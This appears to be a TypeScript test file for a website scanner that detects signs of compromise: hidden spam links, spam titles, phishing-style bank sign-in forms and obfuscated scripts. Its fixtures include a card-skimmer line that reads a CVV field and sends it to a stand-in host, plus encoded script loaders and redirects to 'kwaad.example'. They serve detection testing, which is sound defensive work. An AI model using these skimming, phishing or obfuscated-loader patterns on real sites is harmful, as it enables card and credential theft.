import { compromiseSigns } from '../../../lib/checks/onderhoud/compromise-signs.ts';
import { blindCases, cases } from '../../kit/cases.ts';
import { blind, link, page, scan, seen } from '../../kit/facts.ts';

type Changes = NonNullable<Parameters<typeof page>[0]>;
const on = (changes: Changes, raw: Changes = {}) => ({ page: page(changes), scan: scan(), raw: seen(page(raw)) });

const start = `eval(atob("${'ZnVuY3Rpb24geCgpe3JldHVybiAxfQ'.repeat(30)}"))`;
const packed: Changes = { resources: { inline: [{ start, length: 4_000 }] } };
const spamLink = (index: number) => ({ url: `https://spam${index}.example/online-casino`, text: 'online casino' });
const hidden: Changes = { concealed: { links: [spamLink(1), spamLink(2), spamLink(3)] } };
const encoded = (code: string): string => `eval(atob("${btoa(code.padEnd(600))}"))`;
const inline = (code: string): Changes => ({ resources: { inline: [{ start: code, length: code.length }] } });
const menu = (...texts: readonly string[]) => ({
  concealed: { links: texts.map((text, at) => ({ url: `https://andere${at}.nl/`, text })) },
});
const heading = (text: string): Changes => ({ headings: [{ level: 1, text, visible: true }] });
const numbers = (code: string): string =>
  `eval(String.fromCharCode(${[...code.padEnd(200)].map((one) => one.charCodeAt(0)).join(',')}))`;
const skims = `document.querySelector("#cvv");var d=btoa(v);new Image().src="https://jquery-cdn.example/x?d="+d`;
const form = (action: string, fields: readonly string[]): Changes => ({
  forms: { list: [{ action, method: 'post', fields: [...fields], selector: 'form' }] },
});
const signIn = (title: string, body = 'Vul uw gegevens in'): Changes => ({
  head: { titles: [title] },
  text: { body },
  forms: { passwordFields: 1, visiblePasswordFields: 1 },
});
const stolen: Changes = {
  forms: {
    ...form('https://verzamel.example/p.php', ['text', 'password']).forms,
    passwordFields: 1,
    visiblePasswordFields: 1,
  },
};
const long = 'Wij bakken brood. '.repeat(200);
const spamRaw: Changes = { head: { titles: ['Buy Viagra online'] } };

const LATIN = 'Wij schilderen huizen in Zwolle en omgeving, al meer dan dertig jaar. '.repeat(10);
const titled = (title: string, changes: Changes = {}): Changes => ({
  ...changes,
  head: { titles: [title] },
  text: { body: LATIN },
});

cases(compromiseSigns, {
  none: [
    on({}),
    on(menu('Partner', 'B', 'C')),
    on({ concealed: { links: [spamLink(1)] } }),
    // The menus of sites about that very subject.
    on({ ...hidden, ...heading('Online casino vergelijken') }),
    { ...on(hidden), scan: scan({ host: 'www.pokernieuws.nl' }) },
    on({ ...menu('Payday loans', 'Payday loans UK', 'Instant loans'), ...heading('Lenen: wat kost het?') }),
    // A hidden menu and a text for screen readers about something else.
    on(menu('Naar de inhoud', 'Zoeken', 'Menu sluiten', 'Onze winkels in Duitsland')),
    on(form('https://voorbeeld.nl/login', ['text', 'password'])),
    on(form('https://lijst.nieuwsbrief.nl/aanmelden', ['email'])),
    on({}, { head: { titles: ['Een andere titel'] } }),
    on({ head: { titles: ['(1) Tramadol afbouwen'] } }, { head: { titles: ['Tramadol afbouwen'] } }),
    on({ head: { titles: ['Flights'] } }, { head: { titles: ['Buy cheap flights'] } }),
    { ...on({}), raw: blind('notApplicable') },
    on(signIn('Bakkerij Jansen: inloggen')),
    // An ordinary page with a sign-in field, and one with a brand's name but no field.
    on(signIn('Inloggen bij ING', long)),
    on({ ...signIn('Inloggen bij ING'), forms: {} }),
    { ...on(signIn('Mijn ING - Inloggen')), scan: scan({ host: 'mijn.ing.nl' }) },
    // A brand in Latin letters over any text, a title that the text quotes, and a page in that language.
    on({ head: { titles: ['NHK WORLD'] }, text: { body: '日本の公共放送局'.repeat(40) } }),
    on(titled('激安ルイヴィトン通販', { document: { lang: 'ja' } })),
    on({ head: { titles: ['日本語の諺を学ぶ'] }, text: { body: `日本語の諺 ${LATIN}` } }),
    on(titled('寿司 Sushi Amsterdam Noord')),
    // Words that spam has too: castles, locks, hours to book, theatres, a sentence that lenders have to say, prevention.
    on(menu('Slot Zuylen', 'Slot Loevestein', 'Slot Oostende')),
    on(menu('AXA slot', 'ABUS slot', 'Trelock slot')),
    on(menu('Book time slots online', 'Time slots Tuesday', 'Book your slot online')),
    on(menu('Casino Beringen', 'Casino Eisden', 'Casino Houthalen')),
    on(menu('Geld lenen kost geld', 'Geld lenen: AFM', 'Geld lenen en BKR')),
    on(menu('Koken zonder recept', 'Brood zonder recept', 'Zonder recept bakken')),
    on({ ...menu('Online casino: hulp', 'Online casino blokkeren', 'Togel'), ...heading('Hulp bij verslaving') }),
    // Code of a payment service, not obfuscated.
    on(inline(`var card = document.getElementById("card-number"); fetch("https://api.stripe.com/v1/tokens")`)),
  ],
  one: [
    on(signIn('Mijn ING - Inloggen')),
    on({ ...signIn('Welkom'), ...heading('Inloggen met DigiD') }),
    on({ ...signIn('Mijn ING - Inloggen', long), overlay: { share: 0.97, selector: '#laag' } }),
    // One form, one sign.
    on({ ...signIn('Mijn ING - Inloggen'), ...form('https://verzamel.example/p.php', ['text', 'password']) }),
    on(packed),
    // Packed analytics also writes scripts, and names its service.
    on(inline(encoded('var s=document.createElement("script");s.src="https://www.googletagmanager.com/gtm.js";'))),
    on(inline(encoded('var _paq=[];var s=document.createElement("script");s.src="https://stats.example/m.js";'))),
    on(inline(encoded('var s=document.createElement("script");s.src="https://cdn.voorbeeld.nl/m.js";'))),
    on(form('https://verzamel.example/p.php', ['text', 'password'])),
    // Titles of congregations, schools and restaurants in their own language.
    on(titled('荷兰华人基督教会 – CCCN'), titled('荷兰华人基督教会 – CCCN')),
    on(titled('مسجد السلام روتردام')),
    on(titled('Русская школа в Амстердаме')),
    on(titled('(1) Русская школа в Амстердаме'), titled('Русская школа в Амстердаме')),
    // Most hidden links lead to the site's own partners.
    on(menu('Partner', 'Bank', 'Krant', 'Radio', 'Winkel', 'online casino')),
  ],
  ordinary: [
    // Packed analytics beside single sign-on elsewhere, or beside a sign-in page of another site.
    on({ ...packed, ...form('https://inloggen.groep.example/', ['text', 'password']) }),
    on({ ...signIn('Inloggen met DigiD'), ...packed }),
    on({ ...packed, ...menu('Partner', 'Bank', 'Krant', 'Radio', 'Winkel', 'online casino') }),
  ],
  found: [
    on(hidden),
    on(menu('slot gacor', 'judi online', 'togel')),
    on(menu('buy viagra', 'cheap cialis', 'canadian pharmacy')),
    on(menu('payday loans', 'minilening zonder bkr', 'flitskrediet')),
    { ...on(hidden), raw: blind('denied') },
    on(titled('激安ルイヴィトン通販サイト')),
    on(titled('Купить диплом недорого')),
    on(titled('在线赌场 老虎机 官方网站')),
    on(titled('카지노사이트 추천 순위')),
    on({ text: { body: LATIN } }, titled('激安ルイヴィトン通販サイト')),
    // A title without a word of spam that the visitor does not see.
    on({ text: { body: LATIN } }, titled('時計ブランド専門店')),
    // Ordinary words among those of spam.
    on(menu('slot gacor', 'casino bonus', 'poker', 'roulette')),
    on(inline(skims)),
    on(inline(encoded('document.write("<script src=https://kwaad.example/x.js></script>")'))),
    on(inline(encoded('var s=document.createElement("script");s.src="//kwaad.example/x.js"'))),
    on(inline(numbers('window.location.href="https://kwaad.example/";'))),
    on({}, spamRaw),
    on(
      {},
      {
        links: { list: [1, 2, 3].map((index) => link({ href: `https://spam${index}.example/`, text: 'slot gacor' })) },
      },
    ),
    on({ ...signIn('Mijn ING - Inloggen'), ...packed, ...stolen }),
    on({ ...packed, ...hidden }),
    on(hidden, spamRaw),
    { ...on({ ...packed, ...hidden }), raw: blind('denied') },
  ],
});

blindCases(compromiseSigns, [
  { ...on({}), raw: blind('denied') },
  { ...on(packed), raw: blind('wall') },
]);
